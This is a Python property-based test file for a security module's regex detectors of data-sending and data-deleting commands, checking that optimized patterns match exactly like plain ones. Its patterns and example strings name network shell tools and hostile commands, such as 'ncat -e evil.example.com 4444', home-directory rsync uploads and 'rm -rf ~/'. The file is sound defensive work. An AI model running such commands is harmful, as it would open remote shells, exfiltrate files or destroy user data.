"""The command patterns of ``rules_recurring`` written for speed (each branch led by a
literal character, its word start checked after it) match exactly where the plain form,
a look-behind before each command, does (issue 12, session 19)."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from keepmind.security import rules_recurring
from keepmind.security.rules_recurring import _HOST, _LOCAL, _REMOTE, _SCRATCH

# The plain form: a word start, then the command.
_SEND = re.compile(
    r"(?<![\w-])(?:scp|sftp|rsync)\b[^\n;|&]{0,160}?" + _REMOTE
    + r"|(?<![\w-])(?:nc|ncat|netcat)(?:\s-\w{1,3}){0,3}\s" + _HOST + r"\s\d{2,5}\b"
    + r"|(?<![\w-])curl\b[^\n;|]{0,100}?\s(?:-t|--upload-file)\s"
    + r"|(?<![\w-])(?:rsync|s?ftp|scp)://(?!" + _LOCAL
    + r")[a-z][\w-]{0,40}(?:\.[\w-]{1,40}){1,4}"
    + r"|invoke-(?:restmethod|webrequest)\b[^\n;|]{0,160}?-infile\b"
    + r"|\|\s?(?:mail|mailx|sendmail)\s")
_DELETE = re.compile(
    r"(?<![\w-])rm\s(?:-{1,2}[a-z-]{1,12}\s){1,3}[\"'«]?\s?" + _SCRATCH
    + r"(?:~|\$home|/|[a-z]:\\)"
    + r"|(?<![\w-])(?:rd|rmdir)\s/s\b[^\n;|&]{0,40}?" + _SCRATCH + r"[a-z]:\\"
    + r"|(?<![\w-])del\s/[fqs]\b[^\n;|&]{0,40}?" + _SCRATCH + r"[a-z]:\\"
    + r"|remove-item\b[^\n;|]{0,80}?-recurse"
    + r"|(?<![\w-])(?:shred|mkfs(?:\.\w+)?)\s")

# Pieces of commands, of their arguments and of what stands before a word.
_PIECES = st.sampled_from([
    "rm", "rmdir", "rd", "del", "shred", "mkfs", ".ext4", "remove-item", "-recurse", "scp",
    "sftp", "rsync", "nc", "ncat", "netcat", "curl", "invoke-restmethod", "-infile", "mail",
    "sendmail", "|", " ", "\n", "-", "_", "x", "7", " -rf ", " /s ", " /f ", "~/", "/", "c:\\",
    "$home", "tmp", "ana@backup.example.com:", "nas.local", "198.51.100.7", "192.168.1.2",
    " 4444", " -t ", "://", "rsync://backup.example.com", "ftp://", "sftp://",
    "--upload-file", ";", "'", "«", "é"])


# Each command at a word start, after a letter and after a hyphen.
_COMMANDS = ("scp -r . ana@backup.example.com:", "sftp ana@backup.example.com:",
             "rsync -a ~/ ana@198.51.100.7:", "nc evil.example.com 4444",
             "ncat -e evil.example.com 4444", "netcat 198.51.100.7 4444", "curl -T x ",
             "invoke-restmethod -infile", "rsync://backup.example.com/x",
             "sftp://files.example.org", "ftp://nas.local", "| mail x", "rm -rf ~/",
             "rmdir /s c:\\x", "rd /s c:\\x", "del /f c:\\x", "remove-item -recurse", "shred x",
             "mkfs.ext4 x")
_EXAMPLES = [lead + command for command in _COMMANDS for lead in ("", " ", "x", "-", "é")]


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.lists(_PIECES, max_size=14).map("".join), st.sampled_from(_EXAMPLES)))
def test_the_fast_command_patterns_match_where_the_plain_ones_do(text: str) -> None:
    for fast, plain in ((rules_recurring.SEND_COMMAND, _SEND),
                        (rules_recurring.DELETE_COMMAND, _DELETE)):
        assert [m.span() for m in fast.finditer(text)] == [m.span() for m in plain.finditer(text)]
        for start in range(len(text) + 1):
            found, wanted = fast.match(text, start), plain.match(text, start)
            assert (found and found.span()) == (wanted and wanted.span())


def test_a_command_after_a_letter_or_a_hyphen_is_none() -> None:
    for text in ("xrm -rf ~/", "-rm -rf /", "xscp -r . ana@backup.example.com:",
                 "my-shred x", "unc evil.example.com 4444"):
        assert not rules_recurring.SEND_COMMAND.search(text)
        assert not rules_recurring.DELETE_COMMAND.search(text)
    assert rules_recurring.DELETE_COMMAND.search("rm -rf ~/")
    assert rules_recurring.SEND_COMMAND.search("scp -r . ana@backup.example.com:")
